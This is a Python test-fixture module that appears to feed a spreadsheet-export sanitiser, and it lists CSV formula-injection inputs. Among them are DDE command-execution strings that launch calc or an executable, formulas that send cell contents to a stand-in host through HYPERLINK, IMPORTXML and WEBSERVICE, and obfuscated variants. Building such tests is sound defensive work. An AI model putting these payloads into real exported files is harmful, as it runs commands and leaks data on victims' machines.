"""Texts that a spreadsheet would run, and those that trick it into running what stands in the middle."""

COMMAND = "=cmd|' /C calc'!A0"
SHORT = (
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "=", "+", "-", "@"),
    # control signs in front
    *("\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\x00=1+1", "\t", "\tplain", "\rplain", "\nplain"),
    "\x0b=1+1",
    # blanks and signs of no width in front
    *(" =1+1", "   +1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "\u200e=1+1", "\u202e=1+1"),
    *("\u2060=1+1", "\u00ad=1+1", " \u200b\t@SUM(A1)", "\u2028=1+1"),
    # wide, small and mathematical forms
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "﹦1+1", "﹢1", "﹣1", "﹫SUM(A1)", "−1+1", " ＝1+1"),
    # what runs or calls elsewhere
    *(COMMAND, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=MSEXCEL|'\\..\\x.exe'!''"),
    *('=HYPERLINK("https://x.test/?q="&A1,"open")', '=IMPORTXML(CONCAT("https://x.test/",A1),"//a")'),
    *('=WEBSERVICE("https://x.test/"&A1)', "=DDE(\"soffice\";\"x\";\"y\")", "=IMAGE(\"https://x.test\")"),
    *("=1+1;=2+2", "=SUMME(1;1)", "=1,5+1", "=1.5+1", "-5,5", "-5.5", "-1.000,50", "+591 70", "-5+1"),
    "=A1:A9",
    # quotes that break a line of CSV, apostrophes that are there already
    *('"=1+1', '"=1+1"', '""=1+1', '","=1+1', '";"=1+1', 'x"\r\n=1+1', "'=1+1", "''=1+1", "'", "''", "' =1"),
    *("'plain", "O'Higgins", "' -x"),
    # separators of another reading
    *("a;=1+1", "a\t=1+1", "a,=1+1", "a|=1+1", "a\n=1+1", "a\r=1+1", "a;;=1+1", 'a;"=1+1"', "a; =1+1"),
    *("a;'=1+1", "a,\t\n=1+1", "a\n\n-b", ";=1+1", ",@SUM(A1)", "sep=;\r\n=1+1", "a;＝1+1", "a;\u200b=1+1"),
    # nothing to run, and kept as it is
    *("#N/A", "#REF!", "%0A=1+1", "{=1+1}", "(=1+1)", "x=1", "R-5", "_x003D_1+1", "&#61;1+1", "=1+1 & é 😀"),
)  # fmt: skip
PAYLOADS = [
    *SHORT,
    COMMAND * 500,
    "=" + "A" * 30_000,
    " " * 5_000 + "=1+1",
    "=1+1;" * 4_000,
    "\u200b" * 300 + "@A1",
]
# What may stand before a formula without keeping it from being one.
FORMULA_SIGNS = tuple("=+-@＝＋－＠﹦﹢﹣﹫−\t\r\n\x00")
